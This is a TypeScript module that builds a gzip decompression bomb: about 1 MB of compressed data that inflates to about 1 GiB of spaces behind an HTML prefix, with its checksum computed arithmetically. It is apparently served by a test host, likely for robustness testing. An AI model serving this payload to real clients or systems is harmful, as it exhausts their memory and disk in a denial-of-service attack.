/**
 * A gzip bomb built without ever inflating it: one raw-deflate chunk of 1 MiB of spaces (ending
 * on a full flush, so it references nothing before it) repeated N times, framed as one gzip
 * member. The CRC-32 of the inflated data is computed with crc32-combine arithmetic, not by
 * hashing a gigabyte.
 */
import { constants, deflateRawSync } from 'node:zlib';

const MIB = 1 << 20;
const PREFIX = Buffer.from('<!DOCTYPE html>\n<html><head><title>Bomb</title></head><body>\n');

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

/** CRC-32 (IEEE, as gzip uses) of a buffer. */
export function crc32(buf: Uint8Array, crc = 0): number {
  let c = (crc ^ 0xffffffff) >>> 0;
  for (const byte of buf) c = (CRC_TABLE[(c ^ byte) & 0xff] as number) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function matTimes(mat: Uint32Array, vec0: number): number {
  let sum = 0;
  let vec = vec0 >>> 0;
  for (let i = 0; vec !== 0; i++, vec >>>= 1) if (vec & 1) sum ^= mat[i] as number;
  return sum >>> 0;
}

function matSquare(square: Uint32Array, mat: Uint32Array): void {
  for (let n = 0; n < 32; n++) square[n] = matTimes(mat, mat[n] as number);
}

/** CRC-32 of A||B from crc(A), crc(B) and the length of B in bytes (zlib's crc32_combine). */
export function crc32Combine(crc1: number, crc2: number, len2: number): number {
  if (len2 <= 0) return crc1 >>> 0;
  const even = new Uint32Array(32);
  const odd = new Uint32Array(32);
  odd[0] = 0xedb88320;
  for (let n = 1, row = 1; n < 32; n++, row <<= 1) odd[n] = row >>> 0;
  matSquare(even, odd);
  matSquare(odd, even);
  let c = crc1 >>> 0;
  let len = len2;
  for (;;) {
    matSquare(even, odd);
    if (len % 2 === 1) c = matTimes(even, c);
    len = Math.floor(len / 2);
    if (len === 0) break;
    matSquare(odd, even);
    if (len % 2 === 1) c = matTimes(odd, c);
    len = Math.floor(len / 2);
    if (len === 0) break;
  }
  return (c ^ crc2) >>> 0;
}

/** A built bomb. */
export interface GzipBomb {
  /** The gzip bytes as sent. */
  gz: Buffer;
  /** Bytes after inflation. */
  inflatedBytes: number;
}

/**
 * Builds a gzip stream that inflates to an HTML prefix plus `mib` MiB of spaces.
 * @param mib inflated size in MiB (1024 gives ~1 GiB from ~1 MB of gzip).
 */
export function buildGzipBomb(mib: number): GzipBomb {
  const opts = { level: 9, memLevel: 9, finishFlush: constants.Z_FULL_FLUSH };
  const head = deflateRawSync(PREFIX, opts);
  const block = Buffer.alloc(MIB, 0x20);
  const chunk = deflateRawSync(block, opts);
  const chunkCrc = crc32(block);
  // crc of `mib` blocks by binary doubling.
  let crcBlocks = 0;
  let have = 0;
  let powCrc = chunkCrc;
  let powLen = MIB;
  for (let n = mib; n > 0; n = Math.floor(n / 2)) {
    if (n % 2 === 1) {
      crcBlocks = have === 0 ? powCrc : crc32Combine(crcBlocks, powCrc, powLen);
      have += powLen;
    }
    powCrc = crc32Combine(powCrc, powCrc, powLen);
    powLen *= 2;
  }
  const total = PREFIX.length + mib * MIB;
  const crc = mib === 0 ? crc32(PREFIX) : crc32Combine(crc32(PREFIX), crcBlocks, mib * MIB);
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc >>> 0, 0);
  trailer.writeUInt32LE(total % 0x100000000, 4);
  const parts: Buffer[] = [header, head];
  for (let i = 0; i < mib; i++) parts.push(chunk);
  parts.push(Buffer.from([3, 0]), trailer);
  return { gz: Buffer.concat(parts), inflatedBytes: total };
}

let cached: GzipBomb | null = null;

/** The 1 GiB bomb served by the `gzip-bomb` host (built on first use, ~20 ms, then cached). */
export function standardBomb(): GzipBomb {
  cached ??= buildGzipBomb(1024);
  return cached;
}
